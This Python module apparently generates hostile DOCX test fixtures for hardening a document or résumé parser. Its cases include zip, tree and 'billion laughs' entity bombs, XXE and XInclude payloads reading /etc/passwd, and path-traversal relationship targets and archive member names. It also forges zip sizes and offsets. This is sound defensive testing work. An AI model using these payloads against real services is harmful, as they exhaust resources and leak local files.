"""DOCX files made to do harm."""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from types import MappingProxyType

MIB = 2**20
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
NAME = b"<w:p><w:r><w:t>Ada Example</w:t></w:r></w:p>"


def package(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in {"[Content_Types].xml": b"<Types/>", **parts}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def document(body: bytes, *, doctype: str = "") -> bytes:
    head = f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}"><w:body>'
    return head.encode() + body + b"</w:body></w:document>"


def docx_of(body: bytes, *, doctype: str = "", **others: bytes) -> bytes:
    """``others`` are parts of the document by their kind (``styles``, ``header``, ``footer``)."""
    relations = [relation(kind, f"{kind}.xml") for kind in others]
    return package(
        {
            "word/document.xml": document(body, doctype=doctype),
            "word/_rels/document.xml.rels": relationships(*relations),
            **{f"word/{kind}.xml": content for kind, content in others.items()},
        }
    )


def relationships(*relations: str) -> bytes:
    return f'<Relationships xmlns="{_PACKAGE}">{"".join(relations)}</Relationships>'.encode()


def relation(kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Type="{_OFFICE}/{kind}" Target="{target}" {more}/>'


def paragraph(text: str) -> bytes:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def zip_bomb(mib: int = 1500) -> bytes:
    """A part that is far larger than it is sent."""
    return docx_of(NAME + b" " * (mib * MIB))


def tree_bomb(elements: int = 5_000_000) -> bytes:
    """Within the limit as text, beyond any memory as a tree."""
    return docx_of(NAME + b"<w:p/>" * elements)


def attribute_bomb(count: int = 4_000_000) -> bytes:
    return docx_of(NAME + b"<w:p " + b" ".join(b"a%d=''" % index for index in range(count)) + b"/>")


def entity_bomb(levels: int = 12) -> bytes:
    """Ten laughs, each of ten laughs."""
    laughs = '<!ENTITY l0 "laughter">' + "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels)
    )
    text = f"&l{levels - 1};"
    return docx_of(
        NAME + paragraph(text) + f'<w:p><w:pPr><w:pStyle w:val="{text}"/></w:pPr></w:p>'.encode(),
        doctype=f"<!DOCTYPE w:document [{laughs}]>",
    )


def entity_blow_up(size: int = 1_000_000) -> bytes:
    """One long entity, named many times, also where an attribute's value is made of it."""
    reference = "&a;" * 50_000
    return docx_of(
        NAME + paragraph(reference) + f'<w:p w:x="{reference}"/>'.encode(),
        doctype=f'<!DOCTYPE w:document [<!ENTITY a "{"a" * size}">]>',
    )


def external_entity(uri: str = "file:///etc/passwd") -> bytes:
    """What is at the address would be the candidate's name."""
    return docx_of(
        paragraph("Ada &e; Example"), doctype=f'<!DOCTYPE w:document [<!ENTITY e SYSTEM "{uri}">]>'
    )


def external_parameter_entity(uri: str = "file:///etc/passwd") -> bytes:
    declared = f'<!ENTITY % p SYSTEM "{uri}"> %p; <!ENTITY e "%p;">'
    return docx_of(paragraph("Ada &e; Example"), doctype=f"<!DOCTYPE w:document [{declared}]>")


def external_dtd(uri: str = "file:///etc/passwd") -> bytes:
    return docx_of(paragraph("Ada &e; Example"), doctype=f'<!DOCTYPE w:document SYSTEM "{uri}">')


def included_part(uri: str = "file:///etc/passwd") -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{uri}"/>'
    return docx_of(NAME + paragraph(include))


def external_parts(uri: str = "file:///etc/passwd") -> bytes:
    """Relationships that lead out of the package."""
    path = uri.removeprefix("file://")
    targets = (uri, path, f"../../../../../../..{path}", f"//{path}")
    relations = [
        relation("header", target, more) for target in targets for more in ("", 'TargetMode="External"')
    ]
    return package(
        {
            "word/document.xml": document(NAME),
            "word/_rels/document.xml.rels": relationships(*relations, relation("styles", uri)),
        }
    )


def nested_tables(depth: int = 10_000) -> bytes:
    return docx_of(
        NAME + b"<w:tbl><w:tr><w:tc>" * depth + paragraph("deep") + b"</w:tc></w:tr></w:tbl>" * depth
    )


def nested_boxes(depth: int = 60) -> bytes:
    """Text boxes in each other, each with a fallback of its own."""
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    opening = f"<w:p {mc}><w:r><mc:AlternateContent><mc:Choice><w:x/></mc:Choice><mc:Fallback><w:txbxContent>"
    closing = "</w:txbxContent></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    return docx_of(NAME + opening.encode() * depth + paragraph("deep") + closing.encode() * depth)


def wide_rows(cells: int = 250) -> bytes:
    """Dates beside dates: rows that become one line."""
    row = (
        b"<w:tr>"
        + b"<w:tc>" * 0
        + (b"<w:tc>" + paragraph("2019 - 2020 " * 100) + b"</w:tc>") * cells
        + b"</w:tr>"
    )
    return docx_of(NAME + b"<w:tbl>" + row + b"</w:tbl>")


def tiny_runs(count: int = 500_000) -> bytes:
    return docx_of(NAME + b"<w:p>" + b"<w:r><w:t>a</w:t></w:r>" * count + b"</w:p>")


def many_breaks(count: int = 1_000_000) -> bytes:
    return docx_of(NAME + b"<w:p><w:r>" + b"<w:t>a</w:t><w:br/>" * count + b"</w:r></w:p>")


def many_paragraphs(count: int = 249_000) -> bytes:
    return docx_of(NAME + paragraph("aa") * count)


def style_loop() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{each}"><w:basedOn w:val="s{(each + 1) % 3}"/></w:style>'
        for each in range(3)
    )
    run = b'<w:r><w:rPr><w:rStyle w:val="s1"/></w:rPr><w:t>Ada</w:t></w:r>'
    body = b'<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr>' + run + b"</w:p>"
    return docx_of(body, styles=f'<w:styles xmlns:w="{W}">{styles}</w:styles>'.encode())


def huge_values() -> bytes:
    values = ("9" * 400_000, "-1", "1e308", "NaN", "\u0664\u0662", "\u00b2", "2147483648", "")
    body = "".join(
        f'<w:p><w:pPr><w:numPr><w:numId w:val="{value}"/></w:numPr></w:pPr>'
        f'<w:r><w:rPr><w:sz w:val="{value}"/><w:b w:val="{value}"/></w:rPr><w:t>Ada</w:t></w:r></w:p>'
        for value in values
    )
    return docx_of(body.encode())


def many_headers(count: int = 300_000) -> bytes:
    """One header, named again and again."""
    relations = relation("header", "header.xml") * count
    header = f'<w:hdr xmlns:w="{W}">'.encode() + NAME + b"</w:hdr>"
    return package(
        {
            "word/document.xml": document(NAME),
            "word/_rels/document.xml.rels": relationships(relations),
            "word/header.xml": header,
        }
    )


def document_is_its_own_header() -> bytes:
    return package(
        {
            "_rels/.rels": relationships(relation("officeDocument", "word/document.xml")),
            "word/document.xml": document(NAME),
            "word/_rels/document.xml.rels": relationships(relation("header", "document.xml")),
        }
    )


def duplicate_entries(count: int = 2000) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for _ in range(count):
            archive.writestr("word/document.xml", document(NAME))
    return buffer.getvalue()


def names_that_lead_out() -> bytes:
    outside = ("../../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "C:\\boot.ini", "a\0b")
    return package({"word/document.xml": document(NAME), **dict.fromkeys(outside, NAME)})


def lying_sizes() -> bytes:
    """Sizes in the directory that the members do not have, zip64's largest among them."""
    content = bytearray(docx_of(NAME))
    at = content.find(b"PK\1\2")
    while at >= 0:
        content[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF)
        at = content.find(b"PK\1\2", at + 1)
    return bytes(content)


def overlapping_entries() -> bytes:
    content = bytearray(docx_of(NAME, styles=b"<a/>", header=b"<a/>"))
    at = content.find(b"PK\1\2")
    while at >= 0:
        content[at + 42 : at + 46] = struct.pack("<I", 0)
        at = content.find(b"PK\1\2", at + 1)
    return bytes(content)


def damaged_bzip2() -> bytes:
    return _damaged(zipfile.ZIP_BZIP2)


def damaged_lzma() -> bytes:
    return _damaged(zipfile.ZIP_LZMA)


def _damaged(method: int) -> bytes:
    """A member compressed by an unusual method, and broken inside."""
    content = bytearray(package({"word/document.xml": document(NAME * 500)}, method))
    at = content.find(b"word/document.xml") + len(b"word/document.xml")
    content[at + 4 : at + 40] = b"\xff" * 36
    return bytes(content)


def utf16_parts() -> bytes:
    xml = document(NAME).decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    return package({"word/document.xml": xml.encode("utf-16")})


Make = Callable[[], bytes]

ATTACKS: Mapping[str, Make] = MappingProxyType(
    {
        make.__name__: make
        for make in (
            zip_bomb,
            tree_bomb,
            attribute_bomb,
            entity_bomb,
            entity_blow_up,
            external_entity,
            external_parameter_entity,
            external_dtd,
            included_part,
            external_parts,
            nested_tables,
            nested_boxes,
            wide_rows,
            tiny_runs,
            many_breaks,
            many_paragraphs,
            style_loop,
            huge_values,
            many_headers,
            document_is_its_own_header,
            duplicate_entries,
            names_that_lead_out,
            lying_sizes,
            overlapping_entries,
            damaged_bzip2,
            damaged_lzma,
            utf16_parts,
        )
    }
)
